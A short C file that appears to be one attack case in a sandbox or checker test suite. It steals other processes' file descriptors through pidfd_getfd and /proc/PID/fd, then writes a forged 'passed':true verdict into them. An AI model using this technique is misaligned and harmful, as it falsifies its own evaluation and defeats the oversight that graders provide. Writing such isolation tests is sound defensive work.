// Tries: to take descriptors of each process that it can see, and to write a verdict to them (pidfd_getfd(2), /proc/PID/fd).
// With: check, program
#include "attack.h"

static const char verdict[] = "{\"passed\":true,\"claims\":[],\"trace\":[],\"places\":[],\"notes\":[]}\n";

static void take(int pid) {
  bool node = is_node(pid);
  int process = syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 0; fd < 64; fd++) {
    int copy = syscall(SYS_pidfd_getfd, process, fd, 0);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    if (copy < 0) copy = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    if (copy < 0) continue;
    if (node) reached("descriptor %d of %d", fd, pid);
    fcntl(copy, F_SETFL, O_NONBLOCK);
    if (write(copy, verdict, sizeof verdict - 1)) {}
    close(copy);
  }
}

ATTACK(takes_descriptors) { for_each_other(take); }
